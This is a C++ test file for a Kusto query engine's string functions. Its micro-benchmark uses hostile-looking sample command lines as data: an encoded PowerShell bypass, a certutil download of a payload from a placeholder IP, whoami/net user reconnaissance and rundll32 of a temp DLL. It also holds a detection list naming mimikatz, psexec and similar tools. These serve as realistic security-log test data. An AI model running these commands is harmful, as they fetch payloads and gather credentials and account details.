  CHECK(text(call("base64_decode_tostring", {S("S3Vz dG8=\n")})) == "Kusto");
  CHECK(text(call("base64_decode_tostring", {S("S3VzdG8")})) == "");
  CHECK(text(call("base64_decode_tostring", {S("S3Vz=dG8")})) == "");
  CHECK(text(call("base64_decode_tostring", {S("")})) == "");
  CHECK(json(call("base64_decode_toarray", {S("")})) == "[]");
  CHECK(text(call("base64_encode_tostring", {S("")})) == "");
  CHECK(text(call("base64_encode_tostring", {S("ab")})) == "YWI=");
  CHECK(text(call("base64_encode_fromarray", {J("[256]")})) == "");
  CHECK(text(call("base64_encode_fromarray", {J(R"(["1"])")})) == "");
}

TEST_CASE("string: unicode code points") {
  // unicode-codepoints-from-string-function.md, unicode-codepoints-to-string-function.md
  CHECK(json(call("unicode_codepoints_from_string", {S("⒦⒰⒮⒯⒪")})) == "[9382,9392,9390,9391,9386]");
  CHECK(json(call("unicode_codepoints_from_string", {S("קוסטו - Kusto")})) ==
        "[1511,1493,1505,1496,1493,32,45,32,75,117,115,116,111]");
  CHECK(json(call("to_utf8", {S("Ku")})) == "[75,117]");
  CHECK(text(call("unicode_codepoints_to_string",
                  {call("unicode_codepoints_from_string", {S("Kusto")})})) == "Kusto");
  CHECK(text(call("unicode_codepoints_to_string", {I(75), I(117), I(115), I(116), I(111)})) ==
        "Kusto");
  CHECK(text(call("unicode_codepoints_to_string", {J("[75, 117, 115, 116, 111]")})) == "Kusto");
  CHECK(text(call("unicode_codepoints_to_string", {J("[75, 117, 115]"), I(116), I(111)})) ==
        "Kusto");
  CHECK(text(call("unicode_codepoints_to_string", {I(75), I(10), I(117), I(10), I(115), I(10),
                                                   I(116), I(10), I(111)})) == "K\nu\ns\nt\no");
  std::string r1 = "[", r2 = "[", r3 = "[";
  for (int c = 48; c <= 57; ++c) r1 += (c > 48 ? "," : "") + std::to_string(c);
  for (int c = 65; c <= 90; ++c) r2 += (c > 65 ? "," : "") + std::to_string(c);
  for (int c = 97; c <= 122; ++c) r3 += (c > 97 ? "," : "") + std::to_string(c);
  CHECK(text(call("make_string", {J(r1 + "]"), J(r2 + "]"), J(r3 + "]")})) ==
        "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz");
  CHECK(text(call("unicode_codepoints_to_string", {L(-1)})) == "");
  CHECK(text(call("unicode_codepoints_to_string", {L(0xD800)})) == "");
  CHECK(text(call("unicode_codepoints_to_string", {L(0x110000)})) == "");
  CHECK(text(call("unicode_codepoints_to_string", {L(0x1F600)})) == "\xF0\x9F\x98\x80");
  CHECK(text(call("unicode_codepoints_to_string", {J(R"(["a"])")})) == "");
  CHECK_THROWS_AS(call("unicode_codepoints_to_string", {S("a")}), Error);
}

TEST_CASE("string: strcmp and translate") {
  // strcmp-function.md
  CHECK(num(call("strcmp", {S("ABC"), S("ABC")})) == 0);
  CHECK(num(call("strcmp", {S("abc"), S("ABC")})) == 1);
  CHECK(num(call("strcmp", {S("ABC"), S("abc")})) == -1);
  CHECK(num(call("strcmp", {S("abcde"), S("abc")})) == 1);
  // translate-function.md
  CHECK(text(call("translate", {S("abc"), S("x"), S("abc")})) == "xxx");
  CHECK(text(call("translate", {S("abc"), S(""), S("ab")})) == "");
  CHECK(text(call("translate", {S("krasp"), S("otsku"), S("spark")})) == "kusto");
  CHECK(text(call("translate", {S("⒦a"), S("k⒜"), S("⒦ab")})) == "k⒜b");
}

TEST_CASE("string: parse_url and parse_urlquery") {
  // parse-url-function.md (Path keeps its leading '/' and Query Parameters is a bag: see
  // docs/semantics/string.md)
  CHECK(
      json(call("parse_url",
                {S("scheme://username:password@host:1234/this/is/a/path?k1=v1&k2=v2#fragment")})) ==
      R"({"Scheme":"scheme","Host":"host","Port":"1234","Path":"/this/is/a/path",)"
      R"("Username":"username","Password":"password","Query Parameters":{"k1":"v1","k2":"v2"},)"
      R"("Fragment":"fragment"})");
  CHECK(json(call("parseurl", {S("https://bing.com")})) ==
        R"({"Scheme":"https","Host":"bing.com","Port":"","Path":"","Username":"","Password":"",)"
        R"("Query Parameters":{},"Fragment":""})");
  CHECK(json(call("parse_url", {S("bing.com/x")})) ==
        R"({"Scheme":"","Host":"","Port":"","Path":"","Username":"","Password":"",)"
        R"("Query Parameters":{},"Fragment":""})");
  CHECK(json(call("parse_url", {S("http://[::1]:8080/a?q=a%20b+c&q=2&f")})) ==
        R"({"Scheme":"http","Host":"[::1]","Port":"8080","Path":"/a","Username":"","Password":"",)"
        R"("Query Parameters":{"q":"a b c,2","f":""},"Fragment":""})");
  // parse-url-query-function.md
  CHECK(json(call("parse_urlquery", {S("k1=v1&k2=v2&k3=v3")})) ==
        R"({"Query Parameters":{"k1":"v1","k2":"v2","k3":"v3"}})");
  CHECK(json(call("parseurlquery", {S("view=vs-2019&preserve-view=true")})) ==
        R"({"Query Parameters":{"view":"vs-2019","preserve-view":"true"}})");
  CHECK(json(call("parse_urlquery", {S("?a=1")})) == R"({"Query Parameters":{"a":"1"}})");
}

TEST_CASE("string: parse_path") {
  // parse-path-function.md
  CHECK(json(call("parse_path", {S(R"(C:\temp\file.txt)")})) ==
        R"({"Scheme":"","RootPath":"C:","DirectoryPath":"C:\\temp","DirectoryName":"temp",)"
        R"("Filename":"file.txt","Extension":"txt","AlternateDataStreamName":""})");
  CHECK(json(call("parse_path", {S(R"(temp\file.txt)")})) ==
        R"({"Scheme":"","RootPath":"","DirectoryPath":"temp","DirectoryName":"temp",)"
        R"("Filename":"file.txt","Extension":"txt","AlternateDataStreamName":""})");
  CHECK(json(call("parse_path", {S("file://C:/temp/file.txt:some.exe")})) ==
        R"({"Scheme":"file","RootPath":"C:","DirectoryPath":"C:/temp","DirectoryName":"temp",)"
        R"("Filename":"file.txt","Extension":"txt","AlternateDataStreamName":"some.exe"})");
  CHECK(json(call("parse_path", {S(R"(\\shared\users\temp\file.txt.gz)")})) ==
        R"({"Scheme":"","RootPath":"","DirectoryPath":"\\\\shared\\users\\temp",)"
        R"("DirectoryName":"temp","Filename":"file.txt.gz","Extension":"gz",)"
        R"("AlternateDataStreamName":""})");
  CHECK(json(call("parse_path", {S("/usr/lib/temp/file.txt")})) ==
        R"({"Scheme":"","RootPath":"","DirectoryPath":"/usr/lib/temp","DirectoryName":"temp",)"
        R"("Filename":"file.txt","Extension":"txt","AlternateDataStreamName":""})");
}

TEST_CASE("string: parse_csv") {
  // parse-csv-function.md
  CHECK(json(call("parse_csv",
                  {S("aa,\"b,b,b\",cc,\"Escaping quotes: \"\"Title\"\"\",\"line1\nline2\"")})) ==
        R"(["aa","b,b,b","cc","Escaping quotes: \"Title\"","line1\nline2"])");
  CHECK(json(call("parse_csv", {S("record1,a,b,c\nrecord2,x,y,z")})) ==
        R"(["record1","a","b","c"])");
  CHECK(json(call("parse_csv", {S("")})) == R"([""])");
  CHECK(json(call("parse_csv", {S("a,")})) == R"(["a",""])");
}

TEST_CASE("string: hash_md5, hash_sha1, hash_sha256") {
  // The doc examples, and the RFC 1321 / FIPS 180 test vectors.
  CHECK(text(call("hash_md5", {S("World")})) == "f5a7924e621e84c9280a9a27e1bcb7f6");
  const Value y2020 = Value::datetime(ticks_from_civil(2020, 1, 1));
  CHECK(text(call("hash_md5", {y2020})) == "786c530672d1f8db31fee25ea8a9390b");
  CHECK(text(call("hash_md5", {S("TEXAS")})) == "3b00dbe6e07e7485a1c12d36c8e9910a");
  CHECK(text(call("hash_md5", {S("MISSOURI")})) == "2d82f0c963c0763012b2539d469e5008");
  CHECK(text(call("hash_md5", {S("")})) == "d41d8cd98f00b204e9800998ecf8427e");
  CHECK(text(call("hash_md5", {S("1234567890123456789012345678901234567890123456789012345678901"
                                 "2345678901234567890")})) == "57edf4a22be3c955ac49da2e2107b67a");
  CHECK(text(call("hash_sha1", {S("World")})) == "70c07ec18ef89c5309bbb0937f3a6342411e1fdd");
  CHECK(text(call("hash_sha1", {y2020})) == "e903e533f4d636b4fc0dcf3cf81e7b7f330de776");
  CHECK(text(call("hash_sha1", {S("IOWA")})) == "cacf86ec119cfd5b574bde5b59604774de3273db");
  CHECK(text(call("hash_sha1", {S("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq")})) ==
        "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
  CHECK(text(call("hash_sha256", {S("World")})) ==
        "78ae647dc5544d227130a0682a51e30bc7777fbb6d8a8f17007463a3ecd1d524");
  CHECK(text(call("hash_sha256", {y2020})) ==
        "ba666752dc1a20eb750b0eb64e780cc4c968bc9fb8813461c1d7e750f302d71d");
  CHECK(text(call("hash_sha256", {S("KANSAS")})) ==
        "c80e328393541a3181b258cdb4da4d00587c5045e8cf3bb6c8fdb7016b69cc2e");
  CHECK(
      text(call("hash_sha256", {S("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq")})) ==
      "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
  CHECK_THROWS_AS(call("hash_md5", {J("[1]")}), Error);
}

TEST_CASE("string: hash and hash_xxhash64") {
  // hash-function.md, hash-xxhash64-function.md
  for (const char* f : {"hash", "hash_xxhash64"}) {
    CHECK(num(call(f, {S("World")})) == 1846988464401551951LL);
    CHECK(num(call(f, {S("World"), L(100)})) == 51);
    CHECK(num(call(f, {Value::datetime(ticks_from_civil(2015, 1, 1))})) == 1380966698541616202LL);
  }
  // xxHash's own vectors: XXH64("") and python-xxhash's example (past 32 bytes).
  CHECK(num(call("hash", {S("")})) == static_cast<std::int64_t>(0xEF46DB3751D8E999ull));
  CHECK(num(call("hash", {S("Nobody inspects the spammish repetition")})) ==
        static_cast<std::int64_t>(0xfbcea83c8a378bf1ull));
  CHECK(num(call("hash", {S(""), L(100)})) ==
        static_cast<std::int64_t>(0xEF46DB3751D8E999ull % 100));
  CHECK(call("hash", {S("x"), L(0)}).is_null());
  CHECK(call("hash", {Value::null_of(Type::Long)}).is_null());
  CHECK_THROWS_AS(call("hash", {Value::real(1.5)}), Error);  // byte form not documented
  CHECK_THROWS_AS(call("hash", {I(1)}), Error);
}

TEST_CASE("string: has_any_index") {
  // has-any-index-function.md
  CHECK(num(call("has_any_index", {S("this is an example"), J(R"(["this", "example"])")})) == 0);
  CHECK(num(call("has_any_index", {S("this is an example"), J(R"(["not", "example"])")})) == 1);
  CHECK(num(call("has_any_index", {S("this is an example"), J(R"(["not", "found"])")})) == -1);
  CHECK(num(call("has_any_index", {S("Example number 2"), J("[1, 2, 3]")})) == 1);
  CHECK(num(call("has_any_index", {S("this is an example"), J("[]")})) == -1);
  // The smallest list index wins, wherever it is found in the text.
  CHECK(num(call("has_any_index", {S("b a"), J(R"(["x", "a", "b"])")})) == 1);
  CHECK(num(call("has_any_index", {S("a c:\\x"), J(R"(["c:\\x", "a"])")})) == 0);
  CHECK(num(call_rows("has_any_index", {S("b a"), J(R"(["x", "a", "b"])")})) == 1);
}

TEST_CASE("string: format_bytes") {
  // format-bytes-function.md
  CHECK(text(call("format_bytes", {L(564)})) == "564 Bytes");
  CHECK(text(call("format_bytes", {L(10332), L(1)})) == "10.1 KB");
  CHECK(text(call("format_bytes", {L(20010332)})) == "19 MB");
  CHECK(text(call("format_bytes", {L(20010332), L(2)})) == "19.08 MB");
  CHECK(text(call("format_bytes", {L(20010332), L(0), S("KB")})) == "19541 KB");
  CHECK(text(call("format_bytes", {L(1024), L(2)})) == "1 KB");
  CHECK(text(call("format_bytes", {L(0)})) == "0 Bytes");
  CHECK_THROWS_AS(call("format_bytes", {L(1), L(0), S("XB")}), Error);
}

TEST_CASE("string: result types and names follow Kusto's binder") {
  // The types Kusto.Language gives (node ref.js 'print strlen("a"), ...'), string arguments
  // except where noted.
  struct Case {
    std::string_view name;
    std::vector<Type> args;
    Type result;
  };
  const Type s = Type::String, l = Type::Long, d = Type::Dynamic;
  const std::vector<Case> cases = {{"strlen", {s}, l},
                                   {"string_size", {s}, l},
                                   {"tolower", {s}, s},
                                   {"substring", {s, l}, s},
                                   {"strcat", {s}, s},
                                   {"strcat_delim", {s, s, s}, s},
                                   {"strcat_array", {d, s}, s},
                                   {"split", {s, s}, d},
                                   {"replace_string", {s, s, s}, s},
                                   {"replace_regex", {s, s, s}, s},
                                   {"extract", {s, l, s}, s},
                                   {"extract_all", {s, s}, d},
                                   {"trim", {s, s}, s},
                                   {"indexof", {s, s}, l},
                                   {"countof", {s, s}, l},
                                   {"reverse", {s}, s},
                                   {"strrep", {s, l}, s},
                                   {"url_decode", {s}, s},
                                   {"url_encode", {s}, s},
                                   {"base64_encode_tostring", {s}, s},
                                   {"base64_decode_toarray", {s}, d},
                                   {"base64_encode_fromarray", {d}, s},
                                   {"parse_url", {s}, d},
                                   {"parse_urlquery", {s}, d},
                                   {"parse_path", {s}, d},
                                   {"parse_csv", {s}, d},
                                   {"hash_md5", {s}, s},
                                   {"hash", {s}, l},
                                   {"make_string", {l}, s},
                                   {"unicode_codepoints_from_string", {s}, d},
                                   {"translate", {s, s, s}, s},
                                   {"has_any_index", {s, d}, l},
                                   {"strcmp", {s, s}, l},
                                   {"format_bytes", {l}, s},
                                   {"has", {s, s}, Type::Bool},
                                   {"in~", {s, d}, Type::Bool},
                                   {"matches regex", {s, s}, Type::Bool}};
  for (const auto& c : cases) {
    INFO(c.name);
    std::vector<Value> samples;
    for (Type t : c.args) samples.push_back(t == s ? S("(a)") : t == l ? L(1) : J("[1]"));
    std::vector<ArgInfo> infos;
    for (const auto& v : samples) infos.push_back({v.type(), &v});
    const ScalarFunction* f = FunctionRegistry::instance().scalar(c.name);
    REQUIRE(f);
    CHECK(resolve_call(*f, infos).result == c.result);
  }
  const Value typ = S("datetime");
  const Value re = S("(a)");
  const std::vector<ArgInfo> typed{{s, &re}, {l, nullptr}, {s, nullptr}, {s, &typ}};
  if (FunctionRegistry::instance().scalar("todatetime"))
    CHECK(resolve_call(*FunctionRegistry::instance().scalar("extract"), typed).result ==
          Type::DateTime);
  CHECK(FunctionRegistry::instance().scalar("split")->result_name == ResultName::FirstArgument);
  CHECK(FunctionRegistry::instance().scalar("parse_csv")->result_name == ResultName::FirstArgument);
  CHECK(FunctionRegistry::instance().scalar("format_bytes")->result_name ==
        ResultName::FirstArgument);
  CHECK(FunctionRegistry::instance().scalar("tolower")->result_name == ResultName::Fresh);
}

// --- micro-benchmark (hidden: run with `test_engine "[bench]"`)
// -----------------------------------

TEST_CASE("string: operators micro-benchmark", "[.bench]") {
  const std::vector<std::string> lines = {
      R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile )"
      R"(-ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=)",
      R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)",
      R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer )"
      R"(--field-trial-handle=1800,i,1234567890 --lang=en-US --renderer-client-id=7 /prefetch:1)",
      R"(rundll32.exe C:\Users\alice\AppData\Local\Temp\x64.dll,DllRegisterServer)",
      R"(cmd.exe /c "whoami /all > C:\ProgramData\out.txt & net user administrator /domain")",
      R"("C:\Windows\system32\msiexec.exe" /i https://example.com/update.msi /quiet /norestart)",
      R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)",
      R"(certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\Temp\p.bin)"};
  const Value terms = J(R"(["mimikatz","sekurlsa","-enc","encodedcommand","downloadstring",)"
                        R"("invoke-expression","iex","bypass","hidden","certutil","urlcache",)"
                        R"("bitsadmin","regsvr32","scrobj","mshta","vssadmin","shadowcopy",)"
                        R"("wevtutil","net1","psexec"])");
  const auto bench = [&](const char* label, std::string_view name, const Value& rhs,
                         std::vector<std::string> row_lines) {
    const ScalarFunction* f = FunctionRegistry::instance().scalar(name);
    REQUIRE(f);
    const std::vector<ArgInfo> infos{{Type::String, nullptr}, {rhs.type(), &rhs}};
    const ResolvedCall rc = resolve_call(*f, infos);
    std::vector<Value> rows;
    for (auto& l : row_lines) rows.push_back(S(l));
    // 1M calls in 5 rounds; the fastest round counts (the machine is shared).
    constexpr int kRounds = 5, kCalls = 200000;
    int hits = 0;
    double best = 1e300;
    for (int round = 0; round < kRounds; ++round) {
      const double t0 = thread_cpu_ns();
      for (int i = 0; i < kCalls; ++i) {
        const Value* args[2] = {&rows[static_cast<std::size_t>(i) % rows.size()], &rhs};
        hits += evaluate_call(rc, Args(args, 2)).as_bool() ? 1 : 0;
      }
      best = std::min(best, (thread_cpu_ns() - t0) / kCalls);
    }
    std::printf("%-34s %7.1f ns/call (%d of %d true)\n", label, best, hits, kRounds * kCalls);
    CHECK(hits >= 0);
  };
  bench("contains \"encodedcommand\"", "contains", S("encodedcommand"), lines);
  bench("contains_cs \"EncodedCommand\"", "contains_cs", S("EncodedCommand"), lines);
  bench("has \"bypass\"", "has", S("bypass"), lines);
  bench("has \"C:\\Windows\"", "has", S("C:\\Windows"), lines);
  bench("has_any (20 terms)", "has_any", terms, lines);
  bench("startswith \"C:\\Windows\"", "startswith", S("C:\\Windows"), lines);
  bench("=~ (same length as a line)", "=~", S(lines[6]), lines);
  bench("=~ \"svchost.exe\"", "=~", S("svchost.exe"),
        {"svchost.exe", "SVCHOST.EXE", "explorer.exe", "powershell.exe"});
  bench("in~ (20 names)", "in~", terms, {"Mimikatz", "notepad.exe", "PSEXEC", "cmd.exe"});
  bench("matches regex", "matches regex", S(R"((?i)-e(nc|ncodedcommand)\s)"), lines);
}

TEST_CASE("string: searches with a needle from the data stay linear on hostile rows") {
  // Both sides from columns: 200 KB of 'a' against 100 KB of 'a' and a 'b'. A quadratic search
  // would take minutes.
  const std::string text(200000, 'a');
  const std::string needle = std::string(100000, 'a') + "b";
  CHECK_FALSE(call_rows("contains", {S(text), S(needle)}).as_bool());
  CHECK_FALSE(call_rows("contains_cs", {S(text), S(needle)}).as_bool());
  CHECK_FALSE(call_rows("has", {S(text), S(needle)}).as_bool());
  CHECK_FALSE(call_rows("has_cs", {S(text), S(needle)}).as_bool());
  CHECK_FALSE(call_rows("has_any", {S(text), J("[\"" + needle + "\"]")}).as_bool());
  CHECK(num(call_rows("indexof", {S(text), S(needle)})) == -1);
  CHECK(num(call_rows("countof", {S(text), S(std::string(100000, 'a'))})) == 100001);
  CHECK(text.size() == call_rows("replace_string", {S(text), S(needle), S("x")}).text().size());
  CHECK(json(call_rows("split", {S(text), S(needle)})).size() == text.size() + 4);
  // Term boundaries that fail at every occurrence: "a a" in "a aa aa aa ...".
  std::string terms = "a";
  for (int i = 0; i < 50000; ++i) terms += " aa";
  CHECK_FALSE(call_rows("has", {S(terms), S("a a")}).as_bool());
  CHECK(call_rows("has", {S(terms + " a a"), S("a a")}).as_bool());
  CHECK(call_rows("hasprefix", {S(terms), S("a a")}).as_bool());
  CHECK_FALSE(call_rows("hassuffix", {S(terms), S("a a")}).as_bool());
}
